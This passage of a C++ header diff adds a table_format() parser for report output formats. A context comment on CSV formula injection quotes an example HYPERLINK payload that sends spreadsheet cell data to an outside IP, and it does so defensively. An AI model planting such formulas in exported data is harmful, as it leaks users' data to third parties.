@@ -3,11 +3,14 @@
 // summaries, sources).
 #pragma once
 #include <string>
+#include <string_view>
 #include <vector>
 
 namespace ashiato::report {
 
 enum class TableFormat { kText, kCsv, kJsonLines, kJson };
+// From a command's -f value: csv, jsonl, json; anything else (table) is kText.
+TableFormat table_format(std::string_view name);
 
 // CSV cells that start with =, +, -, @, a tab or a carriage return are formulas to a spreadsheet,
 // quoted or not (`=HYPERLINK("http://198.51.100.9/?"&A1,"x")` in a proxy user name sends the sheet
